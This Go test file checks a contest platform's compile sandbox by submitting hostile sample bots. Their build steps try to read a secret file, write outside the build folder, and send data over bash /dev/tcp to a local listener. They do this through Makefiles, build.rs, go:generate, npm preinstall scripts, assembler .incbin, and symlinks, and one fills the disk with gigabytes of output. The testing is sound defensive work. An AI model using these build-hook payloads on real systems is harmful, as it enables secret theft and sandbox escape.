package compile

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"blockyard/agents/contest"
	"blockyard/agents/contest/cage"
	"blockyard/agents/contest/compile/compiletest"
)

// secret is what no submission may learn while it is compiled.
const secret = "Rosebud42"

// TestCompileAttacks: a submission that attacks while it is compiled reaches nothing outside of its folder. Every attack
// would print the secret, or leave a file beside the folder.
func TestCompileAttacks(t *testing.T) {
	compiletest.Everywhere(t, compileAttacks)
}

func compileAttacks(t *testing.T) {
	outside := t.TempDir()
	hidden := filepath.Join(outside, "id")
	require.NoError(t, os.WriteFile(hidden, []byte(secret+"\n"), 0o600))
	l, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	defer l.Close()
	left := filepath.Join(outside, "left")
	script := fmt.Sprintf("cat %s >&2; echo x > %s; bash -c 'echo x > /dev/tcp/%s' || true; exit 1\n", hidden, left,
		strings.Replace(l.Addr().String(), ":", "/", 1))
	makefile := "all:\n\t" + strings.ReplaceAll(script, "\n", "")
	attacks := map[string]struct {
		tool  string
		works bool // where nothing is contained; the others are never run
		files []string
	}{
		"include of a secret": {"cc", true, []string{"bot.c", fmt.Sprintf("#include %q\nint main(void) { return 0; }\n", hidden)}},
		"embedded by the assembler": {"cc", true, []string{"bot.c", fmt.Sprintf(
			"__asm__(\".incbin \\\"%s\\\"\");\nint main(void) { return 0; }\n", hidden)}},
		"a makefile": {"make", true, []string{"Makefile", makefile, "bot.c", "int x;\n"}},
		"bot.toml":   {"sh", true, []string{"bot.toml", "build = \"sh steal\"\nrun = \"./bot\"\n", "steal", script}},
		"go:generate and go:embed": {"go", false, []string{"main.go", fmt.Sprintf("package main\n\nimport _ \"embed\"\n\n"+
			"//go:generate sh -c %q\n\n//go:embed %s\nvar text string\n\nfunc main() { print(text) }\n", script, hidden)}},
		"build.rs": {"cargo", true, []string{"Cargo.toml", "[package]\nname = \"bot\"\nversion = \"1.0.0\"\n", "src/main.rs",
			"fn main() {}\n", "build.rs", fmt.Sprintf("fn main() { std::fs::write(%q, \"x\").ok(); "+
				"panic!(\"{:?}\", std::fs::read_to_string(%q)); }\n", left, hidden)}},
		"an annotation processor": {"javac", false, []string{"Bot.java", "public class Bot { public static void main(String[] a) {} }\n",
			"META-INF/services/javax.annotation.processing.Processor", "Evil\n"}},
		"a script of npm": {"npm", false, []string{"package.json", fmt.Sprintf(
			"{\"main\":\"bot.js\",\"scripts\":{\"preinstall\":\"cp %s %s\"}}", hidden, left), "bot.js", "process.stdin\n"}},
	}
	for name, a := range attacks {
		t.Run(name, func(t *testing.T) {
			if lacks := strings.Join(cage.Missing(), "; "); strings.Contains(lacks, "Landlock)") {
				t.Skipf("nothing keeps files apart here: %s", lacks)
			}
			if _, err := exec.LookPath(a.tool); err != nil {
				t.Skipf("%s is not here", a.tool)
			}
			archive := zipped(t, a.files...)
			require.False(t, leaks(t, archive, left, false))
			if a.works && os.Getenv(compiletest.Machine) == "" { // all machines are alike in the open
				require.True(t, leaks(t, archive, left, true), "in the open")
				_ = os.Remove(left)
			}
		})
	}
}

// leaks compiles a submission and reports whether the secret is said, in a file of the bot, or a file is left.
func leaks(t *testing.T, archive, left string, open bool) bool {
	t.Helper()
	into, limits := t.TempDir(), Default
	limits.Open = open
	_, err := Submission(t.Context(), archive, into, contest.Uploads{}, limits)
	said := fmt.Sprint(err)
	if r, ok := err.(*Refusal); ok {
		said += r.Output
	}
	_, missing := os.Stat(left)
	leaked := missing == nil || strings.Contains(said, secret)
	require.NoError(t, filepath.WalkDir(into, func(path string, d os.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return err
		}
		text, err := os.ReadFile(path)
		leaked = leaked || strings.Contains(string(text), secret+"\n")
		return err
	}))
	return leaked
}

// TestBuildsLeadNowhere: what a build leaves in its folder leads its host to no file outside, which would get other rights
// or other lines.
func TestBuildsLeadNowhere(t *testing.T) {
	file := write(t, "file", outsider)
	into := t.TempDir()
	path, err := filepath.Rel(into, file)
	require.NoError(t, err)
	for _, run := range []string{"./bot", path} { // the first is a link
		_, err := Submission(t.Context(), folder(t, "ln -s "+file+" bot", run), into, contest.Uploads{}, Default)
		require.ErrorAs(t, err, new(*Refusal))
		untouched(t, file)
	}
}

// TestCompilersAreBounded: a source of a few bytes whose compilation writes gigabytes is refused, and leaves nothing.
func TestCompilersAreBounded(t *testing.T) {
	t.Setenv("TMPDIR", compiletest.Public(t))
	into := t.TempDir()
	path := write(t, "bot.c", "__asm__(\".fill 0x1c0000000,1,1\"); int main(void) { return 0; }\n")
	_, err := Submission(t.Context(), path, into, contest.Uploads{}, Default)
	require.ErrorAs(t, err, new(*Refusal))
	left, err := filepath.Glob(filepath.Join(os.TempDir(), "*.[os]*"))
	require.NoError(t, err)
	require.Empty(t, left)
	var bytes int64
	require.NoError(t, filepath.WalkDir(into, func(_ string, d os.DirEntry, err error) error {
		if info, _ := d.Info(); err == nil && d.Type().IsRegular() {
			bytes += info.Size()
		}
		return err
	}))
	require.Less(t, bytes, int64(2<<30))
}
